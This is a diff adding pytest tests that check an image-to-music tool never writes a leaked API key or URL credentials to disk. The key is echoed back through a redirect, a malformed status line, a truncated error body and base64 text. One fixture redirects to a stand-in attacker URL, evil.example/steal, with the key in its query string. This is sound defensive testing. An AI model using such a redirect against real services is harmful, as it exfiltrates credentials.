@@ -374,3 +374,76 @@ def test_a_key_echoed_in_a_stream_never_reaches_the_screen() -> None:
         shown = "".join(pieces)
         assert shown == "you sent [redacted] to me"
         assert not any("sk-" in p for p in pieces)
+
+
+# --- the key in every place of an answer, and credentials in the URL: never on disk -------------------------
+
+KEY = "sk-SECRET-0123456789abcdef"
+
+
+def _answer_with_key(place: str) -> Any:
+    import base64
+
+    def send(c: Any, head: str, stop: threading.Event) -> None:
+        if place == "Location":
+            where = f"http://evil.example/steal?k={KEY}"
+            c.sendall(f"HTTP/1.1 302 Found\r\nLocation: {where}\r\nContent-Length: 0\r\n\r\n".encode())
+        elif place == "status line":
+            c.sendall(f"HTTP/1.1 2OO {KEY}\r\n\r\n".encode())
+        elif place == "body cut at 300":
+            body = ("x" * (300 - 9) + KEY).encode()  # the key straddles the 300-character cut of an error body
+            c.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
+        elif place == "base64 echo":
+            body = ("you sent " + base64.b64encode(f"Authorization: Bearer {KEY}".encode()).decode()).encode()
+            c.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
+
+    return send
+
+
+def _on_disk(roots: list[Any], needles: list[str]) -> list[str]:
+    found = []
+    for root in roots:
+        for path in root.rglob("*"):
+            if path.is_file():
+                data = path.read_bytes()
+                found += [f"{path.name}: {n}" for n in needles if n.encode() in data]
+    return found
+
+
+@pytest.mark.parametrize("place", ["Location", "status line", "body cut at 300", "base64 echo"])
+def test_the_key_in_any_place_of_an_answer_reaches_no_file(place: str, tmp_path: Any, image_path: Any) -> None:
+    """run.json, the report, run.log, vlm_calls.jsonl and the run database, LangGraph's checkpoint tables
+    included, hold no piece of the key, whether it comes back in a redirect's Location, a malformed status line,
+    an error body cut in the middle of it, or base64-encoded."""
+    import base64
+
+    from image2music.graph.config import load_settings
+
+    from image2music.runner import compose_image
+
+    for url in _raw_server(_answer_with_key(place)):
+        s = load_settings(vlm_backend="openai", vlm_base_url=url, vlm_api_key=KEY, vlm_model="m", top_k=0,
+                          attention_maps=False, vlm_timeout_s=5)  # fmt: skip
+        rec = compose_image(image_path, s, run_dir=tmp_path / "run", notify=lambda m: None).record
+        assert rec["status"] == "failed", rec
+        echoed = base64.b64encode(f"Authorization: Bearer {KEY}".encode()).decode()
+        key_part = echoed[len("QXV0aG9yaXphdGlvbjogQmVhcmVyI") + 3 : -6]  # the characters only the key makes
+        needles = [KEY, KEY[:9], KEY[-9:], key_part]
+        assert _on_disk([tmp_path / "run", s.home], needles) == [], rec["reason"]
+        if place == "Location":
+            assert "evil.example" in rec["reason"] and "[redacted]" in rec["reason"]
+
+
+def test_credentials_in_the_server_url_reach_no_file(tmp_path: Any, image_path: Any) -> None:
+    from image2music.graph.config import load_settings
+
+    from image2music.runner import compose_image
+
+    for url in _raw_server(_echo_auth):
+        with_user = url.replace("http://", "http://alice:hunter2-password@")
+        s = load_settings(vlm_backend="openai", vlm_base_url=with_user, vlm_model="m", top_k=0, attention_maps=False,
+                          vlm_timeout_s=5)  # fmt: skip
+        rec = compose_image(image_path, s, run_dir=tmp_path / "run", notify=lambda m: None).record
+        assert rec["status"] == "failed"
+        assert _on_disk([tmp_path / "run", s.home], ["hunter2-password", "alice:"]) == [], rec["reason"]
+        assert rec["settings"]["vlm_base_url"].startswith("http://[redacted]@127.0.0.1")
